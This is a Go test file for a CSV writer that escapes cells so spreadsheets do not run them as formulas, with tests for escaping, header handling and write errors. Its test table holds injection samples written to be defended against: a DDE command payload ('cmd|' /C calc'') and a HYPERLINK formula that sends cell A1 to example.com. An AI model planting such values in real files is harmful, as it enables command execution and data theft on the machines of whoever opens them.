package sheet_test

import (
	"bytes"
	"errors"
	"strings"
	"testing"

	"github.com/callwright/callwright/internal/sheet"
)

// TestDisarmed: no cell is a formula to a spreadsheet, and none is escaped
// that need not be.
func TestDisarmed(t *testing.T) {
	for _, c := range []struct {
		kind       sheet.Kind
		cell, want string
	}{
		{sheet.Text, "Jane", "Jane"},
		{sheet.Text, "", ""},
		{sheet.Text, "=1+1", "'=1+1"},
		{sheet.Text, "+12025550123", "'+12025550123"},
		{sheet.Text, "-5", "'-5"},
		{sheet.Text, "@SUM(A1)", "'@SUM(A1)"},
		{sheet.Text, "  =1", "'  =1"},
		{sheet.Text, "\u00A0=1", "'\u00A0=1"},
		{sheet.Text, "\t=1", "\"'\t=1\""},
		{sheet.Text, "\tx", "\"'\tx\""},
		{sheet.Text, "\r=1", "\"'\r=1\""},
		{sheet.Text, "\nx", "\"'\nx\""},
		{sheet.Text, "\u200B \x01\uFEFF=1", "'\u200B \x01\uFEFF=1"},
		{sheet.Text, "＝1", "'＝1"},
		{sheet.Text, "'quoted", "''quoted"},
		{sheet.Text, "a=b", "a=b"},
		{sheet.Text, "O'Neil", "O'Neil"},
		{sheet.Text, `say "x"`, `"say ""x"""`},
		{sheet.Text, "a,b", `"a,b"`},
		{sheet.Text, "a;b", `"a;b"`},
		{sheet.Text, "a\nb", "\"a\nb\""},
		{sheet.Text, "a ", `"a "`},
		{sheet.Text, "a\x00b\xFF", "ab\uFFFD"},
		{sheet.Text, "\x00=1", "'=1"},
		{sheet.Text, `=HYPERLINK("http://example.com?x="&A1,"x")`, `"'=HYPERLINK(""http://example.com?x=""&A1,""x"")"`},
		{sheet.Phone, "+12025550123", "+12025550123"},
		{sheet.Phone, "+1+cmd|' /C calc'!A0", `"'+1+cmd|' /C calc'!A0"`},
		{sheet.Phone, "+12025550123\n", "\"'+12025550123\n\""},
		{sheet.Phone, "anonymous", "anonymous"},
		{sheet.Phone, "", ""},
		{sheet.Number, "-12.5", "-12.5"},
		{sheet.Number, "7", "7"},
		{sheet.Number, "1e-7", "1e-7"},
		{sheet.Number, "+7", "'+7"},
		{sheet.Number, "-1+1", "'-1+1"},
		{sheet.Number, "-", "'-"},
		{sheet.Number, "-1\n=1", "\"'-1\n=1\""},
		{sheet.Time, "2026-11-22T12:00:00Z", "2026-11-22T12:00:00Z"},
		{sheet.Time, "-PT5M", "'-PT5M"},
		{sheet.Time, "=NOW()", "'=NOW()"},
	} {
		var out bytes.Buffer
		w := sheet.NewWriter(&out, []sheet.Column{{Name: "a"}, {Name: "b", Kind: c.kind}})
		if err := errors.Join(w.Write([]string{"x", c.cell}), w.Flush()); err != nil {
			t.Fatal(err)
		}
		if got := out.String(); got != "a,b\nx,"+c.want+"\n" {
			t.Errorf("%q is written as %q, want %q", c.cell, got, c.want)
		}
	}
}

// TestHeaderIsWritten once, with or without rows, and is disarmed too.
func TestHeaderIsWritten(t *testing.T) {
	var out bytes.Buffer
	w := sheet.NewWriter(&out, []sheet.Column{{Name: "phone_number", Kind: sheet.Phone}, {Name: "=evil, \"x\""}})
	if err := errors.Join(w.Flush(), w.Flush(), w.Write([]string{"+12025550123", ""}), w.Flush()); err != nil {
		t.Fatal(err)
	}
	if out.String() != "phone_number,\"'=evil, \"\"x\"\"\"\n+12025550123,\n" {
		t.Errorf("%q", out.String())
	}
}

// full has room for so many bytes.
type full struct {
	room int
	err  error
}

func (f *full) Write(p []byte) (int, error) {
	n := min(len(p), f.room)
	if f.room -= n; n < len(p) {
		return n, f.err
	}
	return n, nil
}

// TestWriteErrors: what could not be written is said, at the latest at the end.
func TestWriteErrors(t *testing.T) {
	broken := errors.New("the disk is full")
	columns := []sheet.Column{{Name: "phone_number", Kind: sheet.Phone}, {Name: "notes"}}
	for room := range 4 {
		w := sheet.NewWriter(&full{room: room * 3000, err: broken}, columns)
		for range 100 {
			if err := w.Write([]string{"+12025550123", strings.Repeat("x", 200)}); err != nil && !errors.Is(err, broken) {
				t.Error(err)
			}
		}
		if err := w.Flush(); !errors.Is(err, broken) {
			t.Errorf("with room for %d bytes: %v", room*3000, err)
		}
	}
	var out bytes.Buffer
	w := sheet.NewWriter(&out, columns)
	for _, cells := range [][]string{nil, {"+12025550123"}, {"+12025550123", "a", "b"}} {
		if err := w.Write(cells); err == nil {
			t.Errorf("%d cells were taken for %d columns", len(cells), len(columns))
		}
	}
}
